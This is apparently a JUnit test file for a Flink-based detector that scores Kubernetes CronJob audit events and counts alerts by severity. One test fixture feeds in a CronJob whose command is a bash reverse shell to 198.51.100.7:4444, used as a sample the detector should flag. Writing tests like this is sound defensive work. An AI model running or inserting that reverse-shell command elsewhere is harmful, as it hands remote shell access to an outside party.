package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.config.ContextConfig;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.testing.AuditEvents;
import dev.cronsentinel.testing.TestData;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import org.apache.flink.api.common.JobID;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.metrics.Counter;
import org.apache.flink.runtime.clusterframework.types.ResourceID;
import org.apache.flink.runtime.executiongraph.ExecutionAttemptID;
import org.apache.flink.runtime.metrics.groups.TaskManagerMetricGroup;
import org.apache.flink.runtime.metrics.groups.TaskMetricGroup;
import org.apache.flink.runtime.metrics.util.TestingMetricRegistry;
import org.apache.flink.runtime.operators.testutils.MockEnvironment;
import org.apache.flink.runtime.operators.testutils.MockEnvironmentBuilder;
import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.junit.jupiter.api.Test;

/** The profile function's counters: alerts by severity after context, context signals, learning ones. */
class ProfileFunctionMetricsTest {
    static final Instant T0 = Instant.parse("2026-11-01T02:00:00Z");
    static final String GITOPS = "system:serviceaccount:argocd:argocd-application-controller";

    private final Map<String, Counter> counters = new ConcurrentHashMap<>();

    private KeyedOneInputStreamOperatorTestHarness<String, ScoredEvent, ScoredEvent> harness(ContextConfig cfg) throws Exception {
        TestingMetricRegistry registry = TestingMetricRegistry.builder()
                .setRegisterConsumer((metric, name, group) -> {
                    if (metric instanceof Counter c) {
                        counters.put(name, c);
                    }
                })
                .build();
        TaskMetricGroup task = TaskManagerMetricGroup.createTaskManagerMetricGroup(registry, "localhost", ResourceID.generate())
                .addJob(new JobID(), "job")
                .addTask(ExecutionAttemptID.randomId(), "profile");
        MockEnvironment env = new MockEnvironmentBuilder().setMetricGroup(task).build();
        var h = new KeyedOneInputStreamOperatorTestHarness<>(
                new KeyedProcessOperator<>(new ProfileFunction(TestData.defaultScorer().rules(), cfg)),
                new ScoredActorNamespaceKey(), Types.STRING, env);
        h.open();
        return h;
    }

    private long count(String name) {
        assertThat(counters).as("registered counters").containsKey(name);
        return counters.get(name).getCount();
    }

    private static void feed(KeyedOneInputStreamOperatorTestHarness<String, ScoredEvent, ScoredEvent> h, AuditEvents e) throws Exception {
        ScoredEvent s = e.scored();
        h.processElement(new StreamRecord<>(s, s.event().eventTime()));
    }

    private static AuditEvents gitops(int day) {
        return AuditEvents.cronJob("reports", "nightly").id("g" + day).at(T0.plus(Duration.ofDays(day))).by(GITOPS)
                .agent("argocd-application-controller/v2.12.3").from("10.42.1.15").images("registry.example.com/reports/nightly:1");
    }

    @Test
    void alertsAreCountedByTheirSeverityAfterContext() throws Exception {
        var h = harness(ProfileFunctionTest.withHold(ProfileFunctionTest.withLearning(Duration.ZERO), Duration.ZERO));
        feed(h, gitops(0));
        feed(h, gitops(1));
        // Structurally benign, lifted over the threshold by context alone: MEDIUM (30 + 10 + 10).
        feed(h, gitops(2).id("lifted").agent("python-requests/2.31.0").from("198.51.100.23").images("ghcr.io/x/y:1"));
        // Structurally alerting on its own.
        feed(h, gitops(3).id("shell").command("/bin/sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));

        long alertable = h.extractOutputValues().stream().filter(ScoredEvent::alertable).count();
        assertThat(alertable).isEqualTo(2);
        assertThat(count("alerts_medium")).isEqualTo(1);
        long all = counters.entrySet().stream().filter(e -> e.getKey().startsWith("alerts_")).mapToLong(e -> e.getValue().getCount()).sum();
        assertThat(all).isEqualTo(alertable);
        assertThat(count("contextSignals")).isEqualTo(1 + 3); // first-seen on day 0, three novelties on day 2
        assertThat(count("contextSignalsLearning")).isZero();
        h.close();
    }

    @Test
    void whileLearningContextIsCountedApartAndLiftsNothing() throws Exception {
        var h = harness(ProfileFunctionTest.withHold(ContextConfig.defaults(), Duration.ZERO));
        feed(h, gitops(0));
        feed(h, gitops(2).id("novel").agent("python-requests/2.31.0").from("198.51.100.23").images("ghcr.io/x/y:1"));
        assertThat(count("contextSignalsLearning")).isEqualTo(1 + 3);
        assertThat(count("contextSignals")).isZero();
        assertThat(counters.entrySet().stream().filter(e -> e.getKey().startsWith("alerts_")).mapToLong(e -> e.getValue().getCount()).sum())
                .isZero();
        h.close();
    }
}
